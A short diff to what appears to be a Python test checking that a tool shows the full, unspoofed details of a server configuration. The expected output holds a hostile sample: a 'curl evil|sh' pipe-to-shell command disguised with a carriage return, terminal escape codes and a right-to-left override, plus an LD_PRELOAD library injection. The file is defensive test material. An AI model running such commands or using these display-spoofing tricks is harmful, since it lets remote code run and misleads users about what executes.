@@ -290,7 +290,7 @@ def test_what_is_shown_of_a_server_is_all_of_it(workdir: Path) -> None:
     )  # fmt: skip
     (item,) = brought_by(workdir).waiting
     (line,) = item.shown
-    assert "curl evil|sh #\\x0dnpx nice\\x1b]0;\\x07\\u202e" in line
+    assert "curl evil|sh #\\rnpx nice\\x1b]0;\\x07\\u202e" in line
     assert "in /tmp/evil" in line
     assert "variables LD_PRELOAD=./x.so" in line
     assert '"start_timeout": 7' in line
